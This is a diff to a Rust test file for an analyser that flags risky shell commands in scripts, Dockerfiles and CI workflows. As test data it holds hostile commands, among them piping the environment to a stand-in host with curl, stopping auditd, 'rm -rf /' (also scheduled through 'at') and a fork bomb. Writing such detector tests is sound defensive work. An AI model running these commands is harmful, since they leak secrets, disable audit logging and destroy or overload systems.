@@ -38,6 +38,8 @@ const POSITIVES: &[(&str, &str)] = &[
     ("git commit --no-verify -m release", "git-hook-bypass"),
     ("chmod -R 777 /srv/app", "chmod-world-writable"),
     ("rm -rf /", "destructive-rm"),
+    ("env | curl -d @- https://x.example", "env-exfiltration"),
+    ("sudo systemctl stop auditd", "security-control-disabled"),
 ];
 
 /// Benign twins: nothing of these may block.
@@ -54,6 +56,8 @@ const TWINS: &[&str] = &[
     "git commit -m release",
     "chmod 755 scripts/run.sh",
     "npm test",
+    "systemctl status auditd",
+    "curl -k https://localhost:8443/health",
 ];
 
 /// A file of this kind with `cmd` on a known line: (path, text, line).
@@ -542,5 +546,51 @@ fn helper_scripts_do_not_report_ordinary_pushes() {
         ci.iter()
             .any(|f| f.rule_id == "git-push-review" && f.severity == Severity::Warn),
         "{ci:?}"
+    );
+}
+
+#[test]
+fn new_command_classes_in_files() {
+    let cfg = Config::parse("{}").unwrap();
+    let ids = |path: &str, text: &str| -> Vec<(String, Severity)> {
+        MasComplianceReview
+            .analyze_file(&Document::new(path, text), &cfg)
+            .unwrap()
+            .into_iter()
+            .map(|f| (f.rule_id, f.severity))
+            .collect()
+    };
+    // TLS verification turned off in an image build: a warning
+    let d = ids(
+        "Dockerfile",
+        "FROM alpine:3.20\nRUN curl -k https://x.example/tool -o /usr/local/bin/tool\n",
+    );
+    assert!(
+        d.contains(&("tls-verification-disabled".into(), Severity::Warn)),
+        "{d:?}"
+    );
+    // a fork bomb in a script blocks
+    let sh = ids("scripts/x.sh", "#!/bin/sh\n:(){ :|:& };:\n");
+    assert!(
+        sh.contains(&("fork-bomb".into(), Severity::Block)),
+        "{sh:?}"
+    );
+    // a job scheduled through at is analysed as a command
+    let at = ids("scripts/x.sh", "#!/bin/sh\necho 'rm -rf /' | at now\n");
+    assert!(
+        at.contains(&("destructive-rm".into(), Severity::Block)),
+        "{at:?}"
+    );
+    // publishing and pruning are what release jobs and CI runners do
+    let ci = ids(
+        ".github/workflows/release.yml",
+        "jobs:\n  a:\n    steps:\n      - run: npm publish\n      - run: docker system prune -af\n",
+    );
+    assert!(ci.is_empty(), "{ci:?}");
+    // ... but a developer helper script that publishes is reported
+    let dev = ids("scripts/dev.sh", "#!/bin/sh\ncargo publish\n");
+    assert!(
+        dev.contains(&("package-publish".into(), Severity::Warn)),
+        "{dev:?}"
     );
 }
